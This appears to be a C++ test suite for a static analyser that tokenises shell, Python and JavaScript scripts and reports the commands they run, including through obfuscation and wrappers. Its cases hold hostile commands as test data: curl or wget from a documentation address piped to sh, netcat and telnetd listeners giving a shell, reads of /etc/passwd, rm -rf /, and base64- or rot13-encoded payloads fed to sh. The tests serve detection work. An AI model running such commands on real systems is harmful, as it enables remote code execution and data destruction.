#include "tests/facts/examine.h"

namespace assay::facts {
namespace {

using testing::Examine;
using testing::ExpectLawful;
using testing::Hex;
using testing::PlaceText;
using testing::Sample;
using testing::Strings;
using testing::Sweep;

const Bytes kShell = Sample("facts/scripts/demo.sh");
const Bytes kPython = Sample("facts/scripts/demo.py");
const Bytes kJavascript = Sample("facts/scripts/demo.js");

TEST(ScriptsTest, GivesOneFactPerSimpleCommand) {
  const auto seen = Examine(kScripts, "bin/demo", kShell);
  EXPECT_TRUE(seen.understood);
  EXPECT_EQ(
      seen.Lines(),
      (Strings{
          "script shell shebang=/bin/sh -e",
          "command curl -fsSL http://192.0.2.1/x program=curl line=3 "
          "pipe_to=sh",
          "command sudo -u root sh -s -- $A program=sh line=3",
          "command [ -x /bin/true ] program=[ line=4",
          "command grep -q a;b|c /etc/passwd program=grep line=4",
          "command echo it's $(id -u) program=echo line=5 "
          "redirect=>>/tmp/log 2>&1",
          "command id -u program=id line=5 within=echo",
          "command case $1 in start|stop program=case line=8",
          "command rm -rf /tmp/demo dir program=rm line=8",
          "command case $1 in * program=case line=9",
          "command exit 1 program=exit line=9",
          "command cat program=cat line=11 redirect=<<EOF >/etc/demo.conf",
          "command sh -c wget -q http://192.0.2.1/y; chmod +x y program=sh "
          "line=14",
          "command wget -q http://192.0.2.1/y program=wget line=14 within=sh",
          "command chmod +x y program=chmod line=14 within=sh",
          "command seq 3 program=seq line=15", "command : $i program=: line=15",
          "command nohup busybox nc -l -p 1 program=nc line=16",
          "command echo long line program=echo line=17"}));
  EXPECT_EQ(PlaceText(seen.facts[4], kShell), "grep -q 'a;b|c' /etc/passwd");
  EXPECT_EQ(PlaceText(seen.facts[18], kShell), "echo long \\\n  line");
}

struct Case {
  std::string_view text;
  Strings commands;
};

// XCU chapter 2 of POSIX.1-2017 and bash(1) say where a command ends.
TEST(ScriptsTest, TokenizesAsAShellDoes) {
  const std::vector<Case> cases = {
      {"a;b&c|d||e&&f\ng", {"a", "b", "c", "d", "e", "f", "g"}},
      {"a \"b;c\" 'd|e' f\\;g", {"a b;c d|e f;g"}},
      {"a # b; c\nd", {"a", "d"}},
      {"a#b c", {"a#b c"}},
      {"a 'unclosed\nb", {"a unclosed\nb"}},
      {"x=$(a \"$(b)\")", {"a $(b)", "b"}},
      {"echo \"`date`\"", {"echo `date`", "date"}},
      {"(a; b) | c", {"a", "b", "c"}},
      {"{ a; b; } > f", {"a", "b"}},
      {"if a; then b; elif c; then d; else e; fi", {"a", "b", "c", "d", "e"}},
      {"while read x; do a $x; done < f", {"read x", "a $x"}},
      {"for x in b c; do a; done", {"a"}},
      {"for ((i=0; i<3; i++)); do a; done", {"a"}},
      {"case x in (a) b;; c|d) e;; esac; f",
       {"case x in a", "b", "case x in c|d", "e", "f"}},
      {"case $(a) in *) case y in z) b;; esac;; esac",
       {"a", "case $(a) in *", "case y in z", "b"}},
      {"f() { a; }; function g { b; }", {"a", "b"}},
      {"a <<E; b\nc\nE\nd", {"a", "b", "d"}},
      {"a <<-'E'\n\tc; $(x)\n\tE\nd", {"a", "d"}},
      {"a <<E\nnever ends", {"a"}},
      {"[[ a && b < c ]] && d", {"[[ a && b < c ]]", "d"}},
      {"a $((1 + (2 * y))) b", {"a $((1 + (2 * y))) b"}},
      {"((x++)); a", {"a"}},
      {"a=(b c); d", {"d"}},
      {"a ${x:-b c;d} e", {"a ${x:-b c;d} e"}},
      {"$'\\x63url' $'a\\tb'", {"curl a\tb"}},
      {"diff <(a) >(b)", {"diff <(a) >(b)", "a", "b"}},
      {"a &> f; b >&2", {"a", "b"}},
      {"A=1 B=2", {}},
      {"> f", {}},
      {"sh <<E\na; b\nE\n", {"sh", "a", "b"}},
      {"eval \"a; b\"", {"eval a; b", "a", "b"}},
      {"trap 'a; b' EXIT", {"trap a; b EXIT", "a", "b"}},
      {"trap - EXIT", {"trap - EXIT"}},
      {"su - u -c 'a b'", {"su - u -c a b", "a b"}},
      {"", {}},
      {")))", {}},
      {";;&&||", {}},
      {"$(", {"$("}},
      {"esac done fi", {}},
  };
  for (const Case& one : cases) {
    const auto seen =
        Examine(kScripts, "x", "#!/bin/bash\n" + std::string(one.text));
    EXPECT_EQ(seen.Values("command"), one.commands) << one.text;
  }
}

// What a script's constants make of its words, by XCU 2.6 and bash(1). Nothing
// that only a run would tell is guessed.
TEST(ScriptsTest, ShowsWhatSplitWordsRun) {
  const std::vector<Case> cases = {
      // Names.
      {"s=tel; s=${s}netd; \"$s\" -l \"$SHELL\"", {"telnetd -l /bin/sh"}},
      {"a=b c=$a; $c$a", {"bb"}},
      {"a=b; a+=c; $a", {"bc"}},
      {"a='x  y'; $a \"$a\"", {"x y x  y"}},
      {"wget${IFS}-q${IFS}u", {"wget -q u"}},
      {"export a=b; $a", {"export a=b", "b"}},
      {"a=(b c); a \"${a[@]}\"", {"a b c"}},
      {"a=abcd; ${a#ab} ${a%cd} ${a/b/x} ${a//b/} ${a:1:2} ${a^^}",
       {"cd ab axcd acd bc ABCD"}},
      {"${a:-b} ${1:-c}", {"b ${1:-c}"}},
      {"a $((0xd0a5)) $((1 + (2 * 3))) $((010|1)) $((36#z))",
       {"a 53413 7 9 35"}},
      {"a=5; b $((a * 2 - 1))", {"b 9"}},
      // What prints its operands, and what decodes it.
      {"$(echo a)$(printf '\\142%s' c) d",
       {"abc d", "echo a", "printf \\142%s c"}},
      {"a=$(echo aWQ= | base64 -d); $a", {"echo aWQ=", "base64 -d", "id"}},
      {"echo aWQgLXUK | base64 -d | sh",
       {"echo aWQgLXUK", "base64 -d", "sh", "id -u"}},
      {"base64 -d <<E | sh\naWQgLXUK\nE\n", {"base64 -d", "sh", "id -u"}},
      {"sh <<< 'a b'", {"sh", "a b"}},
      {"echo 6964 | xxd -r -p | sh", {"echo 6964", "xxd -r -p", "sh", "id"}},
      {"echo vq | tr a-z n-za-m | sh",
       {"echo vq", "tr a-z n-za-m", "sh", "id"}},
      {"echo di | rev | sh", {"echo di", "rev", "sh", "id"}},
      {"a=b c; eval \"$a\" d", {"c", "eval $a d", "$a d"}},
      {"a='b c'; eval \"$a;d\"", {"eval b c;d", "b c", "d"}},
      {"sh -c \"sh -c 'eval a'\"",
       {"sh -c sh -c 'eval a'", "sh -c eval a", "eval a", "a"}},
      // Several values.
      {"for x in a b; do $x c; done", {"a c", "b c"}},
      {"x=a; if b; then x=c; fi; $x", {"b", "a", "c"}},
      {"b && x=c || x=d; $x", {"b", "c", "d"}},
      // Functions.
      {"f() { \"$1\" -l $2; }; f a b", {"$1 -l $2", "f a b", "a -l b"}},
      {"function f { g; $@; }; f h i", {"g", "$@", "f h i", "h i"}},
      // What only a run tells stays as it is written.
      {"$a", {"$a"}},
      {"'$SHELL' \\$SHELL", {"$SHELL $SHELL"}},
      {"A=b c $A", {"c $A"}},
      {"a=$(date); $a", {"date", "$a"}},
      {"a=b; a=$(date); $a", {"date", "$a"}},
      {"a=b; unset a; $a", {"unset a", "$a"}},
      {"a=b; read a; $a", {"read a", "$a"}},
      {"i=0; while a; do i=$((i+1)); b $i; done", {"a", "b $i"}},
      {"for x in $(a); do b $x; done", {"a", "b $x"}},
      {"for x in *; do b $x; done", {"b *"}},
      {"a $((1 / 0)) $((1 +)) $((x)) $(())",
       {"a $((1 / 0)) $((1 +)) $((x)) $(())"}},
      {"$(echo a; b) c", {"$(echo a; b) c", "echo a", "b"}},
      {"$(echo $x) c", {"$(echo $x) c", "echo $x"}},
      {"$(a | base64 -d)", {"$(a | base64 -d)", "a", "base64 -d"}},
      {"echo '*' | base64 -d | sh", {"echo *", "base64 -d", "sh"}},
      {"f() { f $1$1; }; f a", {"f $1$1", "f a", "f aa"}},
      {"${a:-b c}", {"${a:-b c}"}},
      {"a=if; $a b", {"if b"}},
      {"echo hi | cat | cat", {"echo hi", "cat", "cat"}},
  };
  for (const Case& one : cases) {
    const auto seen =
        Examine(kScripts, "x", "#!/bin/bash\n" + std::string(one.text));
    EXPECT_EQ(seen.Values("command"), one.commands) << one.text;
  }
}

// Constants that grow without end, and functions that call each other.
TEST(ScriptsTest, FoldsWithinBounds) {
  std::string doubles = "#!/bin/sh\na=0123456789abcdef\n";
  for (int i = 0; i < 5000; ++i) {
    doubles += "a=$a$a$a$a; b $a\n";
  }
  std::string calls = "#!/bin/sh\n";
  for (int i = 0; i < 300; ++i) {
    calls += "f" + std::to_string(i) + "() { f" + std::to_string(i + 1) +
             " $1 a; f" + std::to_string(i + 1) + " $1 b; }\n";
  }
  calls += "f0 x\n";
  for (const std::string& text : {doubles, calls}) {
    const auto seen = Examine(kScripts, "x", text);
    std::size_t bytes = 0;
    for (const Fact& fact : seen.facts) {
      bytes += fact.value.size();
    }
    EXPECT_LT(bytes, 9UL << 20U);
    EXPECT_LT(seen.facts.size(), 20'001U);
  }
}

TEST(ScriptsTest, NamesTheProgramBehindWrappers) {
  const std::vector<std::pair<std::string_view, std::string_view>> cases = {
      {"/usr/bin/wget x", "wget"},
      {"A=b exec env -i C=d nice -n 5 /opt/x y", "x"},
      {"sudo -u root -E busybox telnetd", "telnetd"},
      {"timeout 5 curl x", "curl"},
      {"command -v curl", "command"},
      {"busybox --install", "busybox"},
      {"exec 3>&1", "exec"},
      {"\"$(which x)\" y", "$(...)"},
      {"${CURL} y", "${CURL}"},
      {"start-stop-daemon --start --exec /usr/sbin/x -- -p 1", "x"},
  };
  for (const auto& [text, program] : cases) {
    const auto seen =
        Examine(kScripts, "x", "#!/bin/sh\n" + std::string(text) + "\n");
    ASSERT_GE(seen.facts.size(), 2U) << text;
    EXPECT_EQ(seen.facts[1].Attribute("program"), program) << text;
  }
}

TEST(ScriptsTest, FindsProcessesOfPythonAndJavascript) {
  const auto python = Examine(kScripts, "a.py", kPython);
  EXPECT_EQ(python.Lines(),
            (Strings{"script python",
                     "call os.system does=process language=python line=3 "
                     "arg1=curl http://192.0.2.1/a | sh",
                     "command curl http://192.0.2.1/a program=curl line=3 "
                     "pipe_to=sh within=os.system",
                     "command sh program=sh line=3 within=os.system",
                     "call subprocess.run does=process language=python line=4",
                     "command /bin/ls -l $name program=ls line=4",
                     "call subprocess.run does=process language=python "
                     "line=5"}));
  const auto javascript = Examine(kScripts, "a.js", kJavascript);
  EXPECT_EQ(javascript.Lines(),
            (Strings{"script javascript",
                     "call child_process.exec does=process "
                     "language=javascript line=2 arg1=wget http://192.0.2.1/b",
                     "command wget http://192.0.2.1/b program=wget line=2 "
                     "within=child_process.exec",
                     "call child_process.spawn does=process "
                     "language=javascript line=4 arg1=node",
                     "command node bundle.js $arg program=node line=4"}));
}

TEST(ScriptsTest, NamesTheInterpreter) {
  const std::vector<std::pair<std::string_view, std::string_view>> cases = {
      {"#!/usr/bin/env -S python3.11 -u\n", "python"},
      {"#! /bin/busybox sh\n", "shell"},
      {"#!/usr/bin/nodejs\n", "javascript"},
      {"#!/usr/bin/perl -w\n", "perl"},
      {"#!/sbin/openrc-run\n", "shell"},
      {"#!/usr/bin/env /lib/runit/invoke-run\n", "shell"},
      {"#!/opt/odd/tool\n", "tool"},
  };
  for (const auto& [text, interpreter] : cases) {
    EXPECT_EQ(Examine(kScripts, "x", text).Values("script"),
              Strings{std::string(interpreter)});
  }
}

TEST(ScriptsTest, KnowsPhpByItsTagAndTypeScriptFromMarkup) {
  EXPECT_EQ(Examine(kScripts, "a.jpg", "<?php a();").Values("script"),
            Strings{"php"});
  EXPECT_EQ(Examine(kScripts, "a.ts", "a();").Values("script"),
            Strings{"javascript"});
  EXPECT_TRUE(Examine(kScripts, "a.ts", "<?xml version='1.0'?>").facts.empty());
  EXPECT_TRUE(Examine(kScripts, "a.jpg", "a <?php b();").facts.empty());
}

TEST(ScriptsTest, KnowsWhatAShellReadsByItsPlace) {
  for (const std::string_view path :
       {"etc/profile.d/colours", "etc/hotplug.d/iface/30-x", "lib/preinit/10_x",
        "etc/dhcp/dhclient-exit-hooks.d/x", "etc/uci-defaults/90-x",
        "root/.bash_logout", "src/PKGBUILD"}) {
    EXPECT_EQ(Examine(kScripts, path, "rm -rf /\n").Values("script"),
              Strings{"shell"})
        << path;
  }
}

TEST(ScriptsTest, TakesNoOtherFileForAScript) {
  for (const std::string_view path :
       {"bin/x", "a.c", "a.txt", "sh", "etc/hotplug.d/x", "hotplug.d/a/b/c",
        "etc/conf.d/x"}) {
    EXPECT_TRUE(Examine(kScripts, path, "rm -rf /\n").facts.empty()) << path;
  }
  for (const std::string_view text : {"", "#", "#!", "#!\n", "#! \n"}) {
    EXPECT_TRUE(Examine(kScripts, "x", text).facts.empty()) << text;
  }
  EXPECT_TRUE(Examine(kScripts, "a.js", AsText(Hex("00010203"))).facts.empty());
}

TEST(ScriptsTest, StopsBeforeABinaryPayload) {
  const std::string text = std::string("#!/bin/sh\na\nexit 0\n") +
                           std::string(500, '\1') + "\0x;y;z\n" +
                           std::string(3, '\0');
  const auto seen = Examine(kScripts, "x", text);
  EXPECT_EQ(seen.Values("command"), (Strings{"a", "exit 0"}));
  EXPECT_FALSE(seen.understood);
  // One NUL alone is no payload: a shell drops it and goes on.
  const std::string stray = std::string("#!/bin/sh\na\0\nb\n", 15);
  EXPECT_EQ(Examine(kScripts, "x", stray).Values("command").size(), 2U);
}

TEST(ScriptsTest, BearsHostileNestingAndLength) {
  for (const std::string_view part :
       {"$(", "`", "${", "\"", "(", "((", "{ ", "<<E\n", "case x in ", "a|",
        "<(", "\\", "if ", "$((", "[[ ", "a=("}) {
    std::string text = "#!/bin/sh\n";
    while (text.size() < 200'000) {
      text += part;
    }
    ExpectLawful(Examine(kScripts, "x", text), AsBytes(text));
  }
  const std::string line = "#!/bin/sh\necho " + std::string(1U << 20U, 'a');
  const auto seen = Examine(kScripts, "x", line);
  ASSERT_EQ(seen.facts.size(), 2U);
  EXPECT_LE(seen.facts[1].value.size(), 4096U);
}

TEST(ScriptsTest, KeepsToTheLimitAndSaysSo) {
  std::string text = "#!/bin/sh\n";
  for (int i = 0; i < 50; ++i) {
    text += "a\n";
  }
  Limits limits;
  limits.facts = 20;
  const auto seen = Examine(kScripts, "x", AsBytes(text), {}, limits);
  EXPECT_EQ(seen.facts.size(), 20U);
  EXPECT_EQ(seen.Values("facts.truncated"), Strings{"scripts"});
}

TEST(ScriptsTest, DamageNeverLeadsOutside) {
  Sweep(kScripts, "x.sh", kShell);
  Sweep(kScripts, "x.py", kPython);
  Sweep(kScripts, "x.js", kJavascript);
}

}  // namespace
}  // namespace assay::facts
